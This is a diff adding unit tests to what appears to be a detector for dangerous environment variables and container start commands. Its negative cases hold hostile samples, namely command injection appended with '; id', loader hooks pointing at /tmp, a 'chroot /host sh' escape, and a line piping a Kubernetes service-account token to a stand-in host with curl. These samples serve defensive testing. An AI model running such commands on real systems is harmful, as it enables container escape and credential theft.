@@ -167,3 +167,39 @@ describe('a variable that is a command by its form', () => {
     expect(rulesOf('START_COMMAND', '/bin/sh -c "make all"')).toEqual([]);
   });
 });
+
+describe('a variable whose value is a program by its name', () => {
+  it.each([
+    ['LESSOPEN', '| /usr/bin/lesspipe %s'],
+    ['LESSOPEN', '||/usr/bin/lesspipe.sh %s'],
+    ['LESSCLOSE', '/usr/bin/lesspipe %s %s'],
+    ['GIT_SSH_COMMAND', 'ssh -i /run/secrets/key -o StrictHostKeyChecking=accept-new'],
+    ['RSYNC_RSH', 'ssh -p 2222'],
+  ])('%s=%s is usual', (name, value) => {
+    expect(rules(variable(name, value))).toEqual([]);
+  });
+
+  it.each([
+    ['LESSOPEN', '| /tmp/lesspipe %s', 'loader-hook'],
+    ['LESSOPEN', '| /usr/bin/lesspipe %s; id', 'loader-hook'],
+    ['GIT_SSH_COMMAND', 'ssh -o ProxyCommand=/tmp/x', 'loader-hook'],
+    ['RSYNC_RSH', 'ssh -p 2222; id', 'shell-injection'],
+    ['GREETING', 'ssh -p 2222 a.example', 'shell-injection'],
+  ])('%s=%s is not', (name, value, rule) => {
+    expect(rules(variable(name, value))).toContain(rule);
+  });
+});
+
+it.each([
+  ['chroot /host sh', 'shell-injection'],
+  ['cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://a.example', 'shell-injection'],
+])('what is no matter of a container, even in its command: %s', (line, rule) => {
+  expect(rules(command('sh', '-c', line))).toContain(rule);
+});
+
+it.each(['cron -f', 'crond -f -l 8', 'wait-for db:3306 -- node server.js'])(
+  'a start as people write it: %s',
+  (line) => {
+    expect(rules(command(line))).toEqual([]);
+  },
+);
